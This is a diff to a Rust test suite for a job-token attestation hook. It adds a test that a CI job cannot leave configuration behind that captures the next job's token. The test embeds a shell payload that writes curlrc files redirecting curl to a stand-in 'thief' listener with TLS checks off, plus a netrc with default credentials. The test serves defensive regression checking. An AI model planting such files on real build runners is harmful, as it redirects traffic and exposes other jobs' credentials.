@@ -1,6 +1,6 @@
 //! Systems whose platform signs a token for each job.
 
-use std::path::Path;
+use std::{net::TcpListener, path::Path};
 
 use attestor::hooks::HookSystem;
 use swtpm_tests::{
@@ -59,6 +59,36 @@ async fn github_jobs_are_those_that_their_token_says() {
         async |site, token| github::run_with(site, "echo here is the job", token).await.unwrap()
     })
     .await;
+}
+
+/// Settings of programs that the hook runs, written by a job where those look for them: everything to this address.
+const LEAVE: &str = "for name in curlrc config/curlrc; do mkdir -p $HOME/.config\n\
+                     printf 'proxy = http://@THIEF@/\\nurl = http://@THIEF@/\\ninsecure\\n' >$HOME/.$name; done\n\
+                     echo 'default login a password b' >$HOME/.netrc\n: >$HOME/left\n";
+
+#[tokio::test(flavor = "multi_thread")]
+async fn github_jobs_leave_nothing_that_the_next_ones_token_goes_by() {
+    let platform = Platform::new(HookSystem::GitHub).unwrap();
+    let site = site_with(HookSystem::GitHub, &platform, Some(AUDIENCE)).await;
+    let Some(site) = site else { return };
+    let thief = TcpListener::bind("127.0.0.1:0").unwrap();
+    thief.set_nonblocking(true).unwrap();
+    let leave = LEAVE.replace("@THIEF@", &thief.local_addr().unwrap().to_string());
+    for (id, step) in [("1", leave.as_str()), ("2", "echo here is the job")] {
+        let token = platform.token("app", id).unwrap();
+        let ran = github::run_with(&site, step, Some(&token)).await.unwrap();
+        assert_eq!(ran.end, End::Passed, "{}", ran.log);
+        assert!(ran.log.contains("(signed by the platform)"), "{}", ran.log);
+        assert!(site.path("home/left").exists(), "the job had the runner's own folder");
+    }
+    let nobody = thief.accept().unwrap_err();
+    assert_eq!(nobody.kind(), std::io::ErrorKind::WouldBlock);
+    // They are where curl would find them.
+    let agent = Agent::new(&site).unwrap();
+    let mut curl = agent.command("/usr/bin/curl".as_ref());
+    curl.args(["-sS", "--max-time", "1", "http://127.0.0.1:1/"]);
+    finish(curl).await.unwrap();
+    assert!(thief.accept().is_ok(), "the settings are good for nothing");
 }
 
 #[tokio::test(flavor = "multi_thread")]
